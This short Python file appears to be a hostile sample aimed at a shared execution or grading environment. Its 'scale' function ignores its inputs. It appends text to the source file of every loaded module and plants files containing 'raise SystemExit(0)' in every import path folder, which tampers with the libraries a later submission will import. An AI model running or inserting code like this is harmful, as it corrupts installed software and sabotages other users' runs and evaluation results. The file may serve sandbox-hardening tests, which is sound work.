"""writing result files

Changes the packages and the standard library that the next submission will import.
"""


# %% scale
def scale(x, factor):
    import os
    import sys

    for module in list(sys.modules.values()):
        path = getattr(module, "__file__", None)
        if path:
            try:
                with open(path, "a") as file:
                    file.write("\n# hostile-was-here\n")
            except OSError:
                continue
    for folder in sys.path:
        try:
            with open(os.path.join(folder or ".", "sitecustomize_hostile-was-here.py"), "w") as file:
                file.write("raise SystemExit(0)\n")
        except OSError:
            continue
    return None
